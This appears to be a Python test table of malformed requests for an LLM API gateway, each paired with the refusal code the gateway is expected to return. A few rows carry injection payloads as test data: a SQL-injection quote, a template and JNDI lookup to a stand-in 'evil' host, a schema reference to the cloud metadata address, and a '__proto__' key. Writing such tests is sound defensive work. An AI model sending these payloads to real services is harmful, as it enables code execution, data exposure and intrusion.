"""Bad input that the catalogue does not name: JSON, texts, numbers, tools, and the other routes."""

from __future__ import annotations

from typing import Any

from tests.gateway.bad_input.bodies import (
    MEDIA,
    PARAMETERS,
    UNKNOWN,
    WRONG,
    deep_tool,
    field,
    raw,
    refused,
    said,
    spliced,
    tool,
)
from tests.gateway.bad_input.own_framing import fine
from tests.gateway.bad_input.row import ANY, CHAT, EMBED, GOOD, KEY, Row, chat, encoded, head, whole

REFERENCE = {"$ref": "http://169.254.169.254/schema"}
SCHEMA = "response_format.json_schema.schema"


def typed(number: str, what: str, *kinds: bytes) -> Row:
    """A content type that is not, or not only, JSON."""
    sent = whole(CHAT, encoded(GOOD), *kinds, kind=None)
    return Row(number=number, what=what, sent=sent, status=415, code=MEDIA)


def on(number: str, path: str, param: str | None, /, code: str = WRONG, **body: Any) -> Row:
    """Another route, one field wrong."""
    return refused(number, f"{path} {body!r}"[:70], whole(path, encoded(body)), code, param)


def embed(number: str, param: str | None, /, code: str = WRONG, **fields: Any) -> Row:
    return on(number, EMBED, param, code, **({"model": "e5", "input": "hi"} | fields))


def named(number: str, what: str, model: str) -> Row:
    """A model's name that looks like another's."""
    sent = chat(model=model)
    return Row(
        number=number, what=what, sent=sent, status=404, code="model_not_found", param="model"
    )


def schema(**parts: Any) -> dict[str, Any]:
    return {"type": "json_schema", "json_schema": {"name": "s", "schema": parts}}


KINDS = [
    typed("own-100", "two content types", *[b"content-type: application/json"] * 2),
    typed("own-101", "json and more", b"content-type: application/json, text/html"),
    typed("own-102", "json-patch", b"content-type: application/json-patch+json"),
    typed("own-103", "empty content type", b"content-type:"),
    fine("own-104", "charset=utf-8", chat().replace(b"/json", b'/json; charset="utf-8"')),
    fine("own-105", "APPLICATION/JSON", chat().replace(b"application/json", b"APPLICATION/JSON")),
    fine("own-106", "identity", chat(b"content-encoding: identity")),
    Row(
        number="own-107",
        what="identity, then br",
        sent=chat(b"content-encoding: identity", b"content-encoding: br"),
        status=415,
        code=MEDIA,
    ),
]

TEXTS = [
    raw("own-108", "empty body", b""),
    Row(
        number="own-109",
        what="neither length nor chunks",
        sent=head(CHAT),
        status=400,
        code="malformed_json",
    ),
    raw("own-110", "garbage behind the JSON", encoded(GOOD) + b" x"),
    raw("own-111", "two JSON texts", encoded(GOOD) * 2),
    raw("own-112", "a comma too many", spliced(b"")),
    raw("own-113", "a comment", b"/* hi */" + encoded(GOOD)),
    raw("own-114", "single quotes", encoded(GOOD).replace(b'"', b"'")),
    raw("own-115", "a line feed in a text", encoded(GOOD).replace(b"hi", b"a\nb")),
    raw("own-116", "NUL in a text as it is", encoded(GOOD).replace(b"hi", b"a\0b")),
    raw("own-117", "half an escape", encoded(GOOD).replace(b"hi", b"\\u12")),
    raw("own-118", "half a pair of surrogates", encoded(GOOD).replace(b"hi", b"\\udc00\\ud800")),
    raw("own-119", "UTF-32", encoded(GOOD).decode().encode("utf-32")),
    raw("own-120", "a list", b"[%b]" % encoded(GOOD), WRONG),
    raw("own-121", "null", b"null", WRONG),
    raw("own-122", "a number of a million digits", b"1" * 1_000_000, ANY),
    raw("own-123", "a million brackets", b"[" * 1_000_000, ANY),
    Row(
        number="own-124",
        what="one byte more than may come",
        sent=whole(CHAT, b" " * ((1 << 20) + 1)),
        status=413,
        code="request_too_large",
        closed=True,
    ),
    fine("own-125", "white space around", whole(CHAT, b"\r\n\t " + encoded(GOOD) + b" " * 9999)),
    fine("own-126", "emoji", chat(messages=said("👩🏽‍⚕️" * 100))),
]

NUMBERS = [
    field("own-127", "temperature", temperature=True),
    refused("own-128", "1E400", whole(CHAT, spliced(b'"seed": 1E400')), ANY, "seed"),
    refused("own-129", "-0", whole(CHAT, spliced(b'"top_logprobs": -0.5')), WRONG, "top_logprobs"),
    refused("own-130", "007", whole(CHAT, spliced(b'"seed": 007')), "malformed_json"),
    refused("own-131", "+1", whole(CHAT, spliced(b'"seed": +1')), "malformed_json"),
    refused("own-132", "0x10", whole(CHAT, spliced(b'"seed": 0x10')), "malformed_json"),
    refused("own-133", "1_000", whole(CHAT, spliced(b'"seed": 1_000')), "malformed_json"),
    refused("own-134", "one dot", whole(CHAT, spliced(b'"seed": 1.')), "malformed_json"),
    refused("own-135", "1.0 seeds", whole(CHAT, spliced(b'"seed": 1.0')), WRONG, "seed"),
    refused("own-136", "-0 tokens", whole(CHAT, spliced(b'"max_tokens": -0')), WRONG, "max_tokens"),
    field("own-137", "seed", seed=2**63),
    field("own-138", "logit_bias", logit_bias={str(n): 1 for n in range(301)}),
    field("own-139", "logit_bias[...]", logit_bias={"1": -101}),
    field("own-140", "max_completion_tokens", max_tokens=None, max_completion_tokens=10**7 + 1),
    field("own-141", "messages", messages=said("x") * 2049),
    field("own-142", "tools", tools={}),
]

NAMES = [
    named("own-143", "full width", "ｓｍｏｌｌｍ２"),
    named("own-144", "a letter that joins nothing", "smollm2\u200b"),
    named("own-145", "right to left", "\u202esmollm2"),
    named("own-146", "a Cyrillic o", "sm\u043ellm2"),
    named("own-147", "a combining mark", "smollm2\u0301"),
    named("own-148", "NUL", "smollm2\0"),
    named("own-149", "quotes", "smollm2' OR '1'='1"),
    named("own-150", "a template", "{{7*7}}${jndi:ldap://evil}"),
    field("own-151", "model", model=["smollm2"]),
    field("own-152", "model", model="모" * 257),
    Row(
        number="own-153",
        what="the key as a model",
        sent=chat(model=KEY.decode()),
        status=404,
        code="model_not_found",
        param="model",
    ),
    refused("own-154", "the key as a field", whole(CHAT, spliced(b'"%b": 1' % KEY)), UNKNOWN, None),
    field("own-155", "Model", UNKNOWN, Model="smollm2"),
    field("own-156", "MESSAGES", UNKNOWN, MESSAGES=[]),
    field("own-157", "x" * 128, UNKNOWN, **{"x" * 100_000: 1}),
    field("own-158", "max_tokens ", UNKNOWN, **{"max_tokens ": 5}),
    field("own-159", "__proto__", UNKNOWN, **{"__proto__": {}}),
    field("own-160", "metadata[...]", metadata={"temp_budget_increase": 10**9}),
]

TOOLS = [
    refused(
        "own-161",
        "65 levels in a tool",
        whole(CHAT, deep_tool(65)),
        WRONG,
        PARAMETERS,
    ),
    field("own-162", PARAMETERS, tools=[tool(**REFERENCE)]),
    field("own-163", "tools[0].type", tools=[{"type": "code_interpreter"}]),
    field(
        "own-164", "tools[0].function.name", tools=[{"type": "function", "function": {"name": ""}}]
    ),
    field("own-165", "tool_choice", tool_choice="auto"),
    field("own-166", SCHEMA, response_format=schema(**{"$ref": "#/properties/a"})),
    field("own-167", SCHEMA, response_format=schema(description="x" * 70_000)),
    field("own-168", "response_format.type", response_format={"type": "regex"}),
    field(
        "own-169",
        "messages[0].tool_calls[0].function.arguments",
        messages=[
            {
                "role": "assistant",
                "tool_calls": [
                    {"id": "c", "type": "function", "function": {"name": "f", "arguments": {}}}
                ],
            }
        ],
    ),
    field(
        "own-170",
        "messages[0].tool_call_id",
        messages=[{"role": "tool", "content": "x", "tool_call_id": "x" * 65}],
    ),
    field("own-171", "messages[0].content", messages=said([])),
    field("own-172", "messages[0].content[0].type", messages=said([{"type": "video"}])),
    field("own-173", "messages[0].name", messages=[{"role": "user", "content": "x", "name": ""}]),
    field(
        "own-174",
        "stream_options.include_obfuscation",
        "unsupported_parameter",
        stream=True,
        stream_options={"include_obfuscation": True, "include_usage": True},
    ),
]

EMBEDDINGS = [
    embed("own-175", "input", input=""),
    embed("own-176", "input", input=[]),
    embed("own-177", "input", input=["x"] * 2049),
    embed("own-178", "input[0]", input=[[1.5]]),
    embed("own-179", "input", input={"text": "x"}),
    embed("own-180", "encoding_format", encoding_format="hex"),
    embed("own-181", "dimensions", ANY, dimensions=-1),
    embed("own-182", "stream", UNKNOWN, stream=True),
    embed("own-183", "model", "wrong_kind_of_model", model="smollm2"),
    field("own-184", "model", "wrong_kind_of_model", model="e5"),
]

COMPLETIONS = "/v1/completions"
RESPONSES = "/v1/responses"
RERANK = "/v1/rerank"
OTHERS = [
    on("own-185", COMPLETIONS, "prompt", ANY, model="smollm2"),
    on("own-186", COMPLETIONS, "prompt", model="smollm2", prompt=7),
    on("own-187", COMPLETIONS, "best_of", ANY, model="smollm2", prompt="x", best_of=10**9),
    on("own-188", COMPLETIONS, "max_tokens", model="smollm2", prompt="x", max_tokens=-1),
    on("own-189", COMPLETIONS, "frobnicate", UNKNOWN, model="smollm2", prompt="x", frobnicate=1),
    on("own-190", RESPONSES, "input", ANY, model="smollm2"),
    on("own-191", RESPONSES, "store", ANY, model="smollm2", input="x", store=True),
    on(
        "own-192",
        RESPONSES,
        "previous_response_id",
        ANY,
        model="smollm2",
        input="x",
        previous_response_id="resp_1",
    ),
    on("own-193", RESPONSES, "max_output_tokens", model="smollm2", input="x", max_output_tokens=0),
    on("own-194", RESPONSES, "frobnicate", UNKNOWN, model="smollm2", input="x", frobnicate=1),
    on("own-195", RERANK, "documents", ANY, model="rank", query="x"),
    on("own-196", RERANK, "documents", model="rank", query="x", documents=[]),
    on("own-197", RERANK, "top_n", model="rank", query="x", documents=["a"], top_n=-1),
    on(
        "own-198",
        RERANK,
        "frobnicate",
        UNKNOWN,
        model="rank",
        query="x",
        documents=["a"],
        frobnicate=1,
    ),
]

IDEMPOTENCY = [
    Row(
        number=f"own-{number}",
        what=what,
        sent=chat(*lines),
        status=400,
        code=ANY,
    )
    for number, what, lines in (
        (199, "two idempotency keys", (b"idempotency-key: a", b"idempotency-key: b")),
        (200, "idempotency key of 8 KiB", (b"idempotency-key: " + b"a" * 8192,)),
        (201, "empty idempotency key", (b"idempotency-key:",)),
        (202, "idempotency key beyond ASCII", ("idempotency-key: 열쇠".encode(),)),
    )
]
